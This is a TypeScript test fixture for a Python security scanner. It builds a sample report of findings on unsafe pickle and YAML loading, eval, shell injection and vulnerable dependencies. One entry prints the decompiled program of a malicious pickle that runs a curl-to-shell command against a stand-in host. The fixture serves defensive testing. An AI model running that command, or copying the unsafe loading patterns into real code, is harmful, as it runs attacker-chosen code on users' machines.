/** One realistic report, written by hand against the files in `sample/`, that the formats are looked at with. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Finding } from '../../src/finding/finding.ts';
import type { Rule } from '../../src/finding/rule.ts';
import type { RunHeader } from '../../src/report/handler.ts';
import type { ArtifactEntry, DependencyEntry, InventoryEntry, Report } from '../../src/report/report.ts';

const FOLDER = join(import.meta.dirname, 'sample');

export const sampleRules: readonly Rule[] = [
  {
    id: 'deserialization/pickle',
    title: 'Pickle that others can write',
    severity: 'critical',
    cwe: [502],
    summary: 'Bytes that somebody else may have chosen are given to `pickle`, which runs whatever they say.',
    explanation:
      'A pickle is a program. Whoever chooses the bytes chooses which functions run, with which arguments, ' +
      'before `loads` returns.\n\nThere is no harm where the bytes come from the program itself, or were verified ' +
      'with a key that nobody else has:\n\n- literals;\n- what `hmac.compare_digest` has checked.',
    remedy:
      'Use a format that only carries data: JSON, MessagePack or Protocol Buffers.\n\nWhere pickle must stay, sign ' +
      'the bytes with `hmac` and check them before they are loaded.',
    grading: 'Critical for requests, high for queues and caches, medium for files, low for arguments.',
    examples: [
      {
        bad: 'prefs = pickle.loads(base64.b64decode(request.cookies["prefs"]))',
        good: 'prefs = json.loads(request.cookies["prefs"])',
      },
    ],
    references: ['Python documentation, pickle, “Restricting Globals”', 'PEP 307'],
  },
  {
    id: 'deserialization/yaml',
    title: 'YAML that may make objects',
    severity: 'critical',
    cwe: [502, 20],
    summary: 'A YAML document that somebody else wrote is read by a loader that makes Python objects.',
    explanation: 'Tags such as `!!python/object/apply` call functions.',
    remedy: 'Use `yaml.safe_load`.',
    references: ['PyYAML documentation, “Loading YAML”'],
  },
  {
    id: 'injection/eval',
    title: 'Text run as code',
    severity: 'critical',
    cwe: [95],
    summary: 'Text from outside is run as Python.',
    explanation: '`eval` runs what it is given.',
    remedy: 'Use `ast.literal_eval` for literals.',
    references: [],
  },
  {
    id: 'files/temporary-folder',
    title: 'Fixed name in a shared temporary folder',
    severity: 'low',
    cwe: [377],
    summary: 'A file has a fixed name in a folder that everybody may write to.',
    explanation: 'Another user of the machine can put a link there first.',
    remedy: 'Use `tempfile.mkstemp`.',
    references: [],
  },
  {
    id: 'artifact/dangerous-global',
    title: 'File that runs a dangerous function when it is loaded',
    severity: 'critical',
    cwe: [502],
    summary: 'A pickle names a function that starts programs, opens connections or changes files.',
    explanation: 'Loading the file calls the function.',
    remedy: 'Delete the file, and find out where it came from.',
    references: [],
  },
  {
    id: 'dependency/vulnerable',
    title: 'Dependency with a known flaw',
    severity: 'critical',
    cwe: [1395],
    summary: 'An advisory names the release that the project uses.',
    explanation: 'An advisory names the release.',
    remedy: 'Upgrade.',
    references: [],
  },
  {
    id: 'settings/extra-index',
    title: 'Second index that may replace packages of the first',
    severity: 'high',
    cwe: [427, 829],
    summary: 'The installer takes the highest version from either index.',
    explanation: 'Whoever registers an internal name on the public index is installed instead.',
    remedy: 'Use one index that proxies the other.',
    references: [],
  },
];

const findings: readonly Finding[] = [
  {
    rule: 'deserialization/pickle',
    message: 'Data from an HTTP request reaches pickle.loads',
    severity: 'critical',
    confidence: 'high',
    cwe: [502],
    origin: 'remote',
    location: { path: 'app/codec.py', line: 14, column: 12, endLine: 14, endColumn: 40 },
    flow: [
      { path: 'app/views.py', line: 10, column: 14, note: 'request.cookies' },
      { path: 'app/views.py', line: 11, column: 13, note: 'passed to load_preferences(cookie)' },
      { path: 'app/codec.py', line: 7, column: 12, note: 'decoded by base64.urlsafe_b64decode' },
      { path: 'app/codec.py', line: 8, column: 12, note: 'returned by unpack, decompressed' },
      { path: 'app/codec.py', line: 14, column: 12, note: 'loaded by pickle.loads' },
    ],
    otherOrigins: [
      {
        origin: 'store',
        flow: [{ path: 'app/cache.py', line: 11, column: 10, note: 'redis.Redis.get' }],
      },
    ],
    entry: { kind: 'http', name: 'GET /prefs', path: 'app/views.py', line: 8 },
    remedy:
      'Replace pickle.loads with json.loads here and pickle.dumps with json.dumps where the cookie is set.',
    fingerprint: 'sha256:0f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: null,
  },
  {
    rule: 'deserialization/yaml',
    message: 'Data from an HTTP request reaches yaml.load with a loader that makes objects',
    severity: 'critical',
    confidence: 'high',
    cwe: [502, 20],
    origin: 'remote',
    location: { path: 'app/views.py', line: 17, column: 13, endLine: 17, endColumn: 62 },
    flow: [
      { path: 'app/views.py', line: 17, column: 23, note: 'request.get_data()' },
      { path: 'app/views.py', line: 17, column: 13, note: 'yaml.load' },
    ],
    entry: { kind: 'http', name: 'POST /theme', path: 'app/views.py', line: 15 },
    remedy: 'Use yaml.safe_load.',
    fingerprint: 'sha256:1f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: null,
  },
  {
    rule: 'artifact/dangerous-global',
    message: 'Loading it runs os.system',
    severity: 'critical',
    confidence: 'high',
    cwe: [502],
    location: { path: 'models/sentiment.pkl', line: 1, column: 1, endLine: 1, endColumn: 1, offset: 2 },
    flow: [],
    remedy: 'Do not load it; delete it and ask who put it there.',
    fingerprint: 'sha256:2f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: null,
  },
  {
    rule: 'dependency/vulnerable',
    message: 'pyyaml 5.3 has PYSEC-2020-96: arbitrary code execution in full_load',
    severity: 'critical',
    confidence: 'high',
    cwe: [1395],
    location: { path: 'requirements.txt', line: 3, column: 1, endLine: 3, endColumn: 12 },
    flow: [],
    remedy: 'Upgrade pyyaml to 5.4 or later.',
    fingerprint: 'sha256:3f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: null,
  },
  {
    rule: 'dependency/vulnerable',
    message: 'urllib3 1.26.2 has PYSEC-2021-108',
    severity: 'high',
    confidence: 'high',
    cwe: [1395],
    location: { path: 'requirements.txt', line: 4, column: 1, endLine: 4, endColumn: 17 },
    flow: [],
    remedy: 'Upgrade urllib3 to 1.26.5 or later.',
    fingerprint: 'sha256:4f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: null,
  },
  {
    rule: 'deserialization/pickle',
    message: 'What a cache holds reaches pickle.loads',
    severity: 'high',
    confidence: 'medium',
    cwe: [502],
    origin: 'store',
    location: { path: 'app/cache.py', line: 14, column: 10, endLine: 20, endColumn: 4 },
    flow: [{ path: 'app/cache.py', line: 11, column: 10, note: 'redis.Redis.get' }],
    remedy: 'Sign what is stored with hmac and check it before it is loaded, as get_signed does.',
    fingerprint: 'sha256:5f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: null,
  },
  {
    rule: 'settings/extra-index',
    message: 'extra-index-url lets either index replace any package of the other',
    severity: 'high',
    confidence: 'high',
    cwe: [427, 829],
    location: { path: 'pip.conf', line: 3, column: 1, endLine: 3, endColumn: 16 },
    flow: [],
    remedy: 'Remove it, and let packages.example.org proxy the public index.',
    fingerprint: 'sha256:6f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: null,
  },
  {
    rule: 'injection/eval',
    message: 'A parameter of the public function greet reaches eval',
    severity: 'medium',
    confidence: 'low',
    cwe: [95],
    origin: 'caller',
    location: { path: 'données/schön.py', line: 3, column: 9, endLine: 3, endColumn: 37 },
    flow: [{ path: 'données/schön.py', line: 1, column: 11, note: 'parameter name' }],
    remedy: 'Build the text with an f-string; nothing here needs eval.',
    fingerprint: 'sha256:7f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: null,
  },
  {
    rule: 'injection/shell',
    message: 'subprocess.run starts a shell with text that is put together here',
    severity: 'medium',
    confidence: 'medium',
    cwe: [78],
    origin: 'local',
    location: { path: 'app/report.py', line: 3, column: 69, endLine: 3, endColumn: 135 },
    flow: [],
    remedy: 'Give the arguments as a list, without shell=True.',
    fingerprint: 'sha256:8f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: null,
  },
  {
    rule: 'deserialization/pickle',
    message: 'A file reaches pickle.load',
    severity: 'medium',
    confidence: 'high',
    cwe: [502],
    origin: 'file',
    location: { path: 'scripts/train.py', line: 12, column: 9, endLine: 12, endColumn: 28 },
    flow: [],
    remedy: 'Store the features as npz without pickles.',
    fingerprint: 'sha256:9f3a5c1e9b7d24680f3a5c1e9b7d2468',
    suppressed: {
      kind: 'inline',
      reason: 'written by the step before, on the same machine',
      until: '2027-03-31',
    },
  },
  ...[4, 5].map(
    (line): Finding => ({
      rule: 'files/temporary-folder',
      message: 'A fixed name in /tmp',
      severity: 'low',
      confidence: 'high',
      cwe: [377],
      location: {
        path: 'app/report.py',
        line,
        column: line === 4 ? 11 : 9,
        endLine: line,
        endColumn: line === 4 ? 24 : 21,
      },
      flow: [],
      remedy: 'Use tempfile.mkstemp.',
      fingerprint: `sha256:${line}a3a5c1e9b7d24680f3a5c1e9b7d2468`,
      suppressed: null,
    }),
  ),
];

const inventory: readonly InventoryEntry[] = [
  {
    path: 'app/codec.py',
    line: 14,
    column: 12,
    callee: 'pickle.loads',
    origin: 'remote',
    verdict: 'finding',
    reason: 'the cookie “prefs” of GET /prefs, not verified',
  },
  {
    path: 'app/views.py',
    line: 17,
    column: 13,
    callee: 'yaml.load',
    origin: 'remote',
    verdict: 'finding',
    reason: 'the body of POST /theme, and yaml.Loader makes objects',
  },
  {
    path: 'app/cache.py',
    line: 14,
    column: 10,
    callee: 'pickle.loads',
    origin: 'store',
    verdict: 'finding',
    reason: 'redis.Redis.get on line 11, not verified',
  },
  {
    path: 'app/cache.py',
    line: 26,
    column: 10,
    callee: 'pickle.loads',
    origin: 'authenticated',
    verdict: 'safe',
    reason: 'HMAC checked by hmac.compare_digest on line 24',
  },
  {
    path: 'scripts/train.py',
    line: 12,
    column: 9,
    callee: 'pickle.load',
    origin: 'file',
    verdict: 'finding',
    reason: 'features.pkl, written by the step before',
  },
  {
    path: 'scripts/train.py',
    line: 31,
    column: 5,
    callee: 'torch.load',
    origin: 'unknown',
    verdict: 'unknown',
    reason: 'the path is computed by a plug-in that is not in the audited folder',
  },
];

const artifacts: readonly ArtifactEntry[] = [
  {
    path: 'models/sentiment.pkl',
    format: 'pickle',
    verdict: 'dangerous',
    sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    globals: [
      { name: 'os.system', verdict: 'dangerous', offset: 2 },
      { name: 'sklearn.linear_model._logistic.LogisticRegression', verdict: 'safe', offset: 71 },
    ],
    reasons: [
      { rule: 'artifact/dangerous-global', message: 'Calls os.system, which starts a shell', offset: 2 },
      {
        rule: 'artifact/trailing-bytes',
        message: 'A second pickle follows the first one’s STOP',
        offset: 68,
      },
    ],
    program:
      "os.system('curl -s https://files.example.org/x | sh')\n_1 = LogisticRegression()\n_1.__setstate__({'coef_': array(…), 'classes_': array(…)})",
    loadedBy: [
      { path: 'app/model.py', line: 14 },
      { path: 'scripts/train.py', line: 31 },
    ],
  },
  {
    path: 'models/embeddings.pt!/embeddings/data.pkl',
    format: 'torch-zip',
    verdict: 'unknown',
    sha256: '60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752',
    globals: [
      { name: 'mylib.layers.Gate', verdict: 'unknown', offset: 44 },
      { name: 'torch._utils._rebuild_tensor_v2', verdict: 'safe', offset: 102 },
    ],
    reasons: [
      {
        rule: 'artifact/unknown-global',
        message: 'Needs mylib.layers.Gate, which nobody vouches for',
        offset: 44,
      },
    ],
  },
  {
    path: 'data/features.npy',
    format: 'npy',
    verdict: 'safe',
    sha256: 'fd61a03af4f77d870fc21e05e7e80678095c92d808cfb3b5c279ee04c74aca13',
    globals: [],
    reasons: [],
  },
];

const dependencies: readonly DependencyEntry[] = [
  {
    name: 'pyyaml',
    version: '5.3',
    purl: 'pkg:pypi/pyyaml@5.3',
    manifest: 'requirements.txt',
    line: 3,
    direct: true,
    groups: ['main'],
    paths: [['shop', 'pyyaml']],
    advisories: [
      {
        id: 'PYSEC-2020-96',
        aliases: ['CVE-2020-1747', 'GHSA-6757-jp84-gxfx'],
        severity: 'critical',
        summary: 'Arbitrary code execution in full_load',
        fixed: ['5.3.1'],
        reachable: 'yes',
      },
      {
        id: 'PYSEC-2021-142',
        aliases: ['CVE-2020-14343'],
        severity: 'critical',
        summary: 'Arbitrary code execution in full_load, second part',
        fixed: ['5.4'],
        reachable: 'imported',
      },
    ],
  },
  {
    name: 'urllib3',
    version: '1.26.2',
    purl: 'pkg:pypi/urllib3@1.26.2',
    manifest: 'requirements.txt',
    line: 4,
    direct: false,
    groups: ['main'],
    paths: [
      ['shop', 'requests', 'urllib3'],
      ['shop', 'flask-admin', 'requests', 'urllib3'],
      ['shop', 'flask-admin', 'botocore', 'urllib3'],
    ],
    advisories: [
      {
        id: 'PYSEC-2021-108',
        aliases: ['CVE-2021-33503'],
        severity: 'high',
        summary: 'Catastrophic backtracking in the authority of a URL',
        fixed: ['1.26.5'],
        reachable: 'unknown',
      },
    ],
  },
  {
    name: 'flask',
    version: '2.0.1',
    purl: 'pkg:pypi/flask@2.0.1',
    manifest: 'requirements.txt',
    line: 1,
    direct: true,
    groups: ['main'],
    paths: [['shop', 'flask']],
    advisories: [],
  },
];

export const sampleReport: Report = {
  version: 1,
  tool: { name: 'wherefrom', version: '0.1.0' },
  root: '.',
  findings,
  inventory,
  artifacts,
  dependencies,
  incomplete: [
    { path: 'legacy/migrate.py', reason: 'syntax error on line 3', line: 3 },
    { path: 'legacy/py2/report.py', reason: 'syntax error on line 41', line: 41 },
    { path: 'models/huge.bin', reason: 'more than 17179869184 bytes to read' },
    { path: 'shared', reason: 'symbolic link that leaves the audited folder' },
  ],
  summary: {
    files: { python: 214, artifacts: 3, manifests: 2 },
    lines: 31_204,
    passedOver: ['virtual environment .venv', '12 entries ignored by .gitignore'],
    advisories: '18,412 records, 3 days old',
  },
};

/** Nothing found, nothing missed. */
export const cleanReport: Report = {
  ...sampleReport,
  findings: [],
  inventory: sampleReport.inventory.filter(({ verdict }) => verdict === 'safe'),
  artifacts: artifacts.filter(({ verdict }) => verdict === 'safe'),
  dependencies: dependencies.filter(({ advisories }) => advisories.length === 0),
  incomplete: [],
};

/** Nothing at all, as in an empty folder. */
export const emptyReport: Report = {
  ...cleanReport,
  inventory: [],
  artifacts: [],
  dependencies: [],
  summary: { files: { python: 0, artifacts: 0, manifests: 0 }, lines: 0, passedOver: [] },
};

export const sampleRun: RunHeader = {
  tool: sampleReport.tool,
  root: sampleReport.root,
  rule: (id) => sampleRules.find((rule) => rule.id === id),
  sourceLines(path) {
    try {
      return readFileSync(join(FOLDER, path), 'utf8').split('\n');
    } catch {
      return undefined;
    }
  },
};
